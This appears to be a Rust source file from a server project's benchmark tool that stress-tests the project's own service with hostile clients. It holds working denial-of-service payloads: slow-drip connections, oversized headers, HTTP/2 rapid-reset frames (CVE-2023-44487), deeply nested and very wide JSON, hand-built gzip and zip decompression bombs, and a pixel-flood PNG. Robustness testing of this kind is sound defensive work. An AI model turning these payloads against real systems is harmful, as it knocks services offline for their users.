//! The abuses themselves, and the process that commits them.

use std::io::{BufRead, Error, Read};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use hyper::Method;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio_rustls::client::TlsStream;

use super::{Victim, get};
use crate::cli::bench::load::{Client, Target};
use crate::server::client::{Connector, Protocol};

/// Connections that one address may hold are 256; the polite ones are among them.
const STUCK: usize = 240;
const TEXT_BYTES: usize = 1 << 20;
const JSON: &str = "application/json";
const FORM: &str = "multipart/form-data; boundary=b";
const FILES: &str = "/v1/evidence/ext:hostile/files";

/// What a hostile client does.
#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
pub(crate) enum Abuse {
    Stuck,
    Heads,
    Resets,
    Deep,
    Wide,
    Packed,
    Zips,
    Pictures,
    Names,
    Handshakes,
}

impl Abuse {
    pub(super) const ALL: [Self; 10] = [
        Self::Stuck,
        Self::Heads,
        Self::Resets,
        Self::Deep,
        Self::Wide,
        Self::Packed,
        Self::Zips,
        Self::Pictures,
        Self::Names,
        Self::Handshakes,
    ];

    /// The word for it on the command line.
    pub(super) fn name(self) -> &'static str {
        self.row().0
    }

    pub(super) fn what(self) -> &'static str {
        self.row().1
    }

    fn row(self) -> (&'static str, &'static str) {
        match self {
            Self::Stuck => (
                "stuck",
                "240 connections that stop halfway and send a byte a second",
            ),
            Self::Heads => ("heads", "heads of 1 MB"),
            Self::Resets => ("resets", "streams reset at once (CVE-2023-44487)"),
            Self::Deep => ("deep", "JSON 10,000 deep"),
            Self::Wide => ("wide", "JSON of 4 MB, 300,000 members wide"),
            Self::Packed => ("packed", "bodies of 1 MB that gzip unpacks to 160 MB"),
            Self::Zips => ("zips", "files of 1 MB that unpack to 160 MB"),
            Self::Pictures => ("pictures", "pictures of 20,000 by 20,000 pixels in 70 bytes"),
            Self::Names => (
                "names",
                "names of every script, every other one with a control character",
            ),
            Self::Handshakes => ("handshakes", "connections that end with the handshake"),
        }
    }
}

/// Commits an abuse until the standard input ends, and says how often.
pub(in crate::cli::bench) fn commit(abuse: Abuse) -> std::io::Result<()> {
    let mut input = std::io::stdin().lock();
    let mut line = String::new();
    input.read_line(&mut line)?;
    let victim: Victim = serde_json::from_str(&line)?;
    let connector = Connector::trusting(&victim.authority)?;
    let target = Target {
        address: victim.address,
        connector: Some(connector.clone()),
        authorization: victim.authorization,
        headers: &[],
    };
    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build()?;
    let times = Arc::new(AtomicU64::new(0));
    let mut abusers = JoinSet::new();
    let count = if abuse == Abuse::Stuck { STUCK } else { 2 };
    for number in 0..count {
        let abuser = Abuser {
            abuse,
            number,
            target: target.clone(),
            connector: connector.clone(),
            times: Arc::clone(&times),
        };
        abusers.spawn_on(abuser.go_on(), runtime.handle());
    }
    println!("begun");
    input.read_to_end(&mut Vec::new())?;
    // What was stored wrong is no matter of chance: it ends the bench.
    while let Some(ended) = abusers.try_join_next() {
        ended.map_err(Error::other)?;
    }
    println!("{}", times.load(Ordering::Relaxed));
    runtime.shutdown_background();
    Ok(())
}

struct Abuser {
    abuse: Abuse,
    number: usize,
    target: Target,
    connector: Connector,
    times: Arc<AtomicU64>,
}

impl Abuser {
    /// What the server answers to it is its own affair; if it hangs up, this one comes again.
    async fn go_on(self) {
        loop {
            if self.once().await.is_err() {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
    }

    fn done(&self) {
        self.times.fetch_add(1, Ordering::Relaxed);
    }

    async fn once(&self) -> std::io::Result<()> {
        if self.abuse == Abuse::Names {
            return self.give_names().await;
        }
        let protocol = match self.abuse {
            Abuse::Resets => Protocol::Http2,
            _ => Protocol::Http1,
        };
        let mut stream = self.connector.speak(protocol, self.target.address).await?;
        match self.abuse {
            Abuse::Handshakes => {
                self.done();
                return Ok(());
            }
            Abuse::Stuck => {
                let begin = [
                    "GET /v1/ca",
                    "POST /v1/cases HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\n",
                ];
                stream
                    .write_all(begin[self.number % begin.len()].as_bytes())
                    .await?;
                loop {
                    self.done();
                    tokio::time::sleep(Duration::from_secs(1)).await;
                    stream.write_all(b"x").await?;
                }
            }
            Abuse::Resets => {
                let hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
                stream.write_all(hello).await?;
                for stream_id in (1_u32..200_000).step_by(2) {
                    stream.write_all(&opened_and_reset(stream_id)).await?;
                    self.done();
                }
            }
            Abuse::Heads => {
                let filler = "x".repeat(TEXT_BYTES);
                let head = format!("GET / HTTP/1.1\r\nhost: x\r\nx: {filler}\r\n\r\n");
                self.done();
                stream.write_all(head.as_bytes()).await?;
            }
            _ => return self.send_bodies(stream).await,
        }
        stream.read_to_end(&mut Vec::new()).await.map(drop)
    }

    /// One after the other on one connection.
    async fn send_bodies<S>(&self, mut stream: TlsStream<S>) -> std::io::Result<()>
    where
        TlsStream<S>: AsyncReadExt + AsyncWriteExt + Unpin,
    {
        let (path, headers, body) = body_of(self.abuse);
        let head = format!(
            "POST {path} HTTP/1.1\r\nhost: x\r\nauthorization: {}\r\ncontent-type: {headers}\r\ncontent-length: {}\r\n\r\n",
            self.target.authorization,
            body.len()
        );
        loop {
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&body).await?;
            self.done();
            let mut answer = [0; 65_536];
            if stream.read(&mut answer).await? == 0 {
                return Ok(());
            }
            if path == FILES {
                // Each is kept as a file; what is tried is the opening of them, not a record of ten thousand files.
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }

    /// Names that are stored as they are, or refused.
    async fn give_names(&self) -> std::io::Result<()> {
        const LETTERS: usize = 60;
        let every = (' '..=char::MAX).filter(|c| !c.is_control()).cycle();
        let mut letters = every.skip(self.number * 70_000);
        let mut tasks = JoinSet::new();
        let mut client = Client::connect(&self.target, &mut tasks).await?;
        loop {
            let name: String = ["n"]
                .into_iter()
                .flat_map(str::chars)
                .chain(letters.by_ref().take(LETTERS))
                .chain("n".chars())
                .collect();
            let person = |name: &str| {
                let data = json!({"data": {"kind": "person", "display_name": name}});
                (Method::POST, "/v1/entities".to_owned(), data.to_string())
            };
            let made = client.json(person(&name)).await?["data"].clone();
            let read = client
                .json(get(&format!(
                    "/v1/entities/{}",
                    made["id"].as_str().unwrap_or_default()
                )))
                .await?;
            assert_eq!(read["data"]["display_name"], name, "a name was stored otherwise");
            let bad = format!("{name}\u{7}{name}");
            let refused = client.json(person(&bad)).await;
            assert!(refused.is_err(), "a name with a control character was taken");
            self.done();
        }
    }
}

/// `GET /` as the head of a stream, and its end.
fn opened_and_reset(stream: u32) -> Vec<u8> {
    let id = stream.to_be_bytes();
    let head = [&[0, 0, 3, 1, 5][..], &id, &[0x82, 0x84, 0x87]].concat();
    [&head[..], &[0, 0, 4, 3, 0], &id, &[0, 0, 0, 8]].concat()
}

/// Where to, with which headers from the media type on, and what.
fn body_of(abuse: Abuse) -> (&'static str, &'static str, Vec<u8>) {
    match abuse {
        Abuse::Deep => {
            let body = format!("{{\"data\":{}1{}}}", "[".repeat(10_000), "]".repeat(10_000));
            ("/v1/cases", JSON, body.into_bytes())
        }
        Abuse::Wide => {
            let members: Vec<String> = (0..300_000).map(|number| format!("\"k{number}\":1")).collect();
            let body = format!("{{\"data\":{{{}}}}}", members.join(","));
            ("/v1/cases", JSON, body.into_bytes())
        }
        Abuse::Packed => {
            let gzip = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff][..], &deflated_zeros()].concat();
            ("/v1/cases", "application/json\r\ncontent-encoding: gzip", gzip)
        }
        Abuse::Zips => {
            // A member called `z`, its lengths and checksum behind it.
            let member = b"PK\x03\x04\x14\0\x08\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0z";
            (
                FILES,
                FORM,
                form("a.zip", &[&member[..], &deflated_zeros()].concat()),
            )
        }
        _ => {
            // A head that says 20,000 by 20,000, and no more: what is checked is that nobody takes room for it.
            let side = 20_000_u32.to_be_bytes();
            let png = [
                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".as_slice(),
                &side,
                &side,
                &[8, 6, 0, 0, 0, 0xc4, 0xf0, 0x18, 0x4c],
            ];
            (FILES, FORM, form("a.png", &png.concat()))
        }
    }
}

fn form(name: &str, file: &[u8]) -> Vec<u8> {
    let head = format!("--b\r\ncontent-disposition: form-data; name=\"files\"; filename=\"{name}\"\r\n\r\n");
    [head.as_bytes(), file, b"\r\n--b--\r\n"].concat()
}

/// A deflate stream of one zero, repeated 258 times by each 13 bits, without an end.
fn deflated_zeros() -> Vec<u8> {
    // From the lowest bit on: no last block, fixed codes, the literal 0; then again and again length 258, distance 1.
    let begin = "01000110000".bytes();
    let again = "1100010100000".bytes().cycle();
    let bits: Vec<u8> = begin.chain(again).take(TEXT_BYTES * 8).collect();
    let byte = |bits: &[u8]| bits.iter().rev().fold(0, |byte, bit| byte << 1 | (bit & 1));
    bits.chunks(8).map(byte).collect()
}
